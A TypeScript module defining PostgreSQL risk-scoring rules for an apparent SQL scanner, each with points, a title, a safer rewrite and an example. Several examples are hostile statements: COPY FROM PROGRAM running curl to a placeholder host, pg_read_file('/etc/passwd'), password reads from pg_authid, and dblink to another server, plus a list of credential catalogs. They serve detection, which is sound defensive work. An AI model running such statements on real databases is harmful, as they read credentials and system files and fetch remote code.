/** Rules about what PostgreSQL alone has. Those of every engine read its facts as well. */

import type { Finding } from "../../sql/facts.ts";
import type { Rule } from "./rule.ts";

const ADMINISTRATOR = "Run administration from an administrator's user, not from an application";
const MIGRATION = "Run definitions from a migration user that has its own profile";

/** Passwords and connections of others; the rest are values, statements and addresses. */
const CREDENTIALS: ReadonlySet<string> = new Set([
  "pg_authid",
  "pg_shadow",
  "pg_user_mapping",
  "pg_user_mappings",
  "pg_subscription",
]);

/** Tools and applications look at their own work there; the server hides that of others from them. */
const ORDINARY: ReadonlySet<string> = new Set([
  "pg_stat_activity",
  "pg_prepared_statements",
  "pg_cursors",
  "pg_foreign_server",
]);

function secretPoints({ detail = "" }: Finding): number {
  if (CREDENTIALS.has(detail)) return 50;
  return ORDINARY.has(detail) ? 8 : 30;
}

/** Reading a large object that the application keeps is not writing one; nobody can tell which it is. */
const REACH: readonly Rule[] = [
  {
    id: "pg.program",
    category: "file",
    points: "95",
    title: "A program is run on the database server",
    rewrite: "Run programs on the client and copy from standard input",
    example: { engine: "postgresql", sql: "COPY book FROM PROGRAM 'curl http://192.0.2.1/x'" },
    findings: { "server-program": 95 },
  },
  {
    id: "pg.file",
    category: "file",
    points: "60-65",
    title: "A file of the database server is read, listed or written",
    rewrite: "Use COPY FROM STDIN or TO STDOUT, and read or write the file on the client",
    example: { engine: "postgresql", sql: "SELECT pg_read_file('/etc/passwd')" },
    findings: { "server-file-read": 60, "server-file-write": 65 },
  },
  {
    id: "pg.largeobject",
    category: "file",
    points: "15",
    title: "A function of large objects is called, whose bytes no table rule sees",
    rewrite: "Keep the bytes in a bytea column",
    example: { engine: "postgresql", sql: "SELECT lo_get(16411)" },
    findings: { "large-object": 15 },
  },
  {
    id: "pg.remote",
    category: "admin",
    points: "65",
    title: "Another server is reached through this one",
    rewrite: ADMINISTRATOR,
    example: { engine: "postgresql", sql: "SELECT * FROM dblink('host=192.0.2.1', 'SELECT 1') AS t(a int)" },
    findings: { "other-server": 65 },
    kinds: { "create-publication": 50, "alter-publication": 50, "drop-publication": 50 },
  },
  {
    id: "pg.secrets",
    category: "recon",
    points: "8-50",
    title: "A part of the catalog with secrets, statements or values of others is read",
    rewrite: "Read the catalog under an administrator's user",
    example: { engine: "postgresql", sql: "SELECT rolname, rolpassword FROM pg_authid" },
    findings: { "catalog-secrets": secretPoints },
  },
];

const CONTROL: readonly Rule[] = [
  {
    id: "pg.control",
    category: "admin",
    points: "60",
    title: "A function that steers the server, its replication or its statistics",
    rewrite: ADMINISTRATOR,
    example: { engine: "postgresql", sql: "SELECT pg_reload_conf()" },
    findings: { "server-control": 60 },
    kinds: { "alter-system": 85, checkpoint: 40 },
  },
  {
    id: "pg.signal",
    category: "admin",
    points: "40",
    title: "Another session or its statement is ended",
    rewrite: "Cancel through the driver, which reaches the session's own statement",
    example: { engine: "postgresql", sql: "SELECT pg_terminate_backend(4711)" },
    findings: { "backend-signal": 40 },
  },
  {
    id: "pg.advisory",
    category: "admin",
    points: "3",
    title: "A lock is taken that no table shows",
    rewrite: "Use SELECT … FOR UPDATE where a row can be locked",
    example: { engine: "postgresql", sql: "SELECT pg_advisory_lock(42)" },
    findings: { "advisory-lock": 3 },
  },
  {
    id: "pg.notify",
    category: "admin",
    points: "3",
    title: "A text is sent to whoever listens",
    rewrite: "Send no data that the listener may not read",
    example: { engine: "postgresql", sql: "NOTIFY jobs, 'done'" },
    findings: { "notify-channel": 3 },
  },
  {
    id: "pg.maintenance",
    category: "admin",
    points: "5-30",
    title: "Tables are vacuumed, clustered or indexed again",
    rewrite: "Run maintenance outside of busy hours",
    example: { engine: "postgresql", sql: "VACUUM FULL book" },
    kinds: { vacuum: 30, analyze: 5, cluster: 30, reindex: 30, "refresh-materialized-view": 10 },
  },
  {
    id: "pg.twophase",
    category: "admin",
    points: "40",
    title: "A transaction is prepared that outlives its session and keeps its locks",
    rewrite: "Leave two-phase commit to a transaction manager with its own profile",
    example: { engine: "postgresql", sql: "PREPARE TRANSACTION 'a'" },
    kinds: { "prepare-transaction": 40, "commit-prepared": 20, "rollback-prepared": 20 },
  },
];

const SETTINGS: readonly Rule[] = [
  {
    id: "pg.reading",
    category: "obfuscation",
    points: "100",
    title: "A setting changes by which the server reads the text of statements",
    rewrite: "Leave standard_conforming_strings on and client_encoding at UTF8",
    example: { engine: "postgresql", sql: "SET standard_conforming_strings = off" },
    // The test says more: a category's cap would leave the points below a block.
    findings: { "set-reading-setting": 1 },
    test: ({ start, end }, { reading }) => {
      const isSet = reading.findings.some(({ what }) => what === "set-reading-setting");
      return isSet ? { points: 100, start, end, action: "block" } : undefined;
    },
  },
  {
    id: "pg.path",
    category: "dynamic",
    points: "30",
    title: "A search_path that puts other schemas before the server's own functions and operators",
    rewrite: "Leave pg_catalog out of search_path: then it comes first",
    example: { engine: "postgresql", sql: "SET search_path = shop, pg_catalog" },
    findings: { "schema-change-hides": 30 },
  },
  {
    id: "pg.setting",
    category: "dynamic",
    points: "50",
    title: "A call of set_config() with a setting or value that the text does not show",
    rewrite: "Name the setting as a literal; names of your own with a point may have any value",
    example: { engine: "postgresql", sql: "SELECT set_config(name, 'on', false) FROM setting" },
    findings: { "dynamic-setting": 50 },
  },
  {
    id: "pg.identity",
    category: "privilege",
    points: "15",
    title: "The session takes another role",
    rewrite: "Log in as the role that the statement needs",
    example: { engine: "postgresql", sql: "SELECT set_config('role', 'admin', false)" },
    findings: { "session-identity": 15 },
    kinds: { "set-session-authorization": 50 },
  },
];

const CODE: readonly Rule[] = [
  {
    id: "pg.code",
    category: "schema",
    points: "50-95",
    title: "Code is stored or attached that later runs where nothing names it",
    rewrite: MIGRATION,
    example: { engine: "postgresql", sql: "CREATE CAST (text AS int) WITH FUNCTION f(text) AS IMPLICIT" },
    kinds: {
      "create-cast": 60,
      "drop-cast": 50,
      "create-operator": 60,
      "alter-operator": 50,
      "drop-operator": 50,
      "create-aggregate": 50,
      "alter-aggregate": 50,
      "drop-aggregate": 50,
      "create-rule": 60,
      "alter-rule": 50,
      "drop-rule": 50,
      "create-transform": 60,
      "drop-transform": 50,
      "create-conversion": 60,
      "create-event-trigger": 85,
      "alter-event-trigger": 85,
      "drop-event-trigger": 85,
      "alter-trigger": 50,
      "create-extension": 85,
      "alter-extension": 85,
      "drop-extension": 85,
      "create-language": 95,
      "load-library": 95,
    },
  },
  {
    id: "pg.do",
    category: "dynamic",
    points: "30",
    title: "A block of procedural code is run",
    rewrite: "Send its statements one by one, or keep it in a migration",
    example: { engine: "postgresql", sql: "DO $$ BEGIN DELETE FROM book WHERE id = 1; END $$" },
    kinds: { "do-block": 30 },
  },
  {
    id: "pg.cte",
    category: "dml",
    points: "5",
    title: "Rows are changed inside WITH",
    rewrite: "Send the change as a statement of its own",
    example: {
      engine: "postgresql",
      sql: "WITH gone AS (DELETE FROM book WHERE id = 1 RETURNING id) SELECT id FROM gone",
    },
    findings: { "write-in-cte": 5 },
  },
  {
    id: "pg.define",
    category: "schema",
    points: "10-85",
    title: "A type, policy, collation or other part of the schema is defined",
    rewrite: MIGRATION,
    example: { engine: "postgresql", sql: "ALTER POLICY tenant ON invoice USING (true)" },
    kinds: {
      "create-type": 25,
      "alter-type": 35,
      "drop-type": 50,
      "create-domain": 30,
      "alter-domain": 35,
      "drop-domain": 50,
      "create-policy": 60,
      "alter-policy": 65,
      "drop-policy": 65,
      "create-materialized-view": 30,
      "alter-materialized-view": 35,
      "drop-materialized-view": 40,
      "alter-index": 25,
      "create-statistics": 10,
      "alter-statistics": 10,
      "drop-statistics": 10,
      "create-collation": 30,
      "alter-collation": 30,
      "drop-collation": 50,
      "create-text-search": 30,
      "alter-text-search": 30,
      "drop-text-search": 50,
      "create-foreign-table": 50,
      "alter-foreign-table": 50,
      "drop-foreign-table": 50,
      comment: 10,
      "security-label": 50,
      "alter-depends": 30,
      "create-database": 50,
      "alter-database": 65,
      "drop-database": 85,
    },
  },
  {
    id: "pg.owner",
    category: "privilege",
    points: "50-85",
    title: "Owners, default privileges or settings of roles change",
    rewrite: ADMINISTRATOR,
    example: { engine: "postgresql", sql: "ALTER DEFAULT PRIVILEGES GRANT SELECT ON TABLES TO PUBLIC" },
    kinds: {
      "alter-owner": 60,
      "default-privileges": 60,
      "reassign-owned": 85,
      "drop-owned": 85,
      "alter-role-set": 60,
      "aws-iam-grant": 70,
      "aws-iam-revoke": 60,
    },
  },
];

export const POSTGRES_RULES: readonly Rule[] = [...REACH, ...CONTROL, ...SETTINGS, ...CODE].map((rule) => ({
  ...rule,
  engines: ["postgresql"],
}));
